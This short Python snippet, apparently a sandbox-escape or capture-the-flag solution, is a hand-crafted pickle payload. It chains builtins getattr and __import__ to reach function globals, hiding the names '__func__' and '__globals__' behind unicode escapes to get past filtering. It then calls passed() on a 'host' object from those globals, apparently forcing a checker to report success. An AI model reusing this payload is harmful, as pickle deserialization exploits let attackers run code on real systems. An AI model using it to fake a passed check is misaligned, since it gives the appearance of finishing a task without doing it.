import pickle, time, builtins
# GLOBAL builtins getattr, twice; GLOBAL builtins __import__, unicode, TUPLE2 REDUCE, twice
data = b"cbuiltins\ngetattr\n(cbuiltins\ngetattr\n(cbuiltins\n__import__\nV__fu\\u006ec__\ntRV__glo\\u0062als__\ntR."
x = pickle.loads(data)
x["host"].passed()
# STARTER
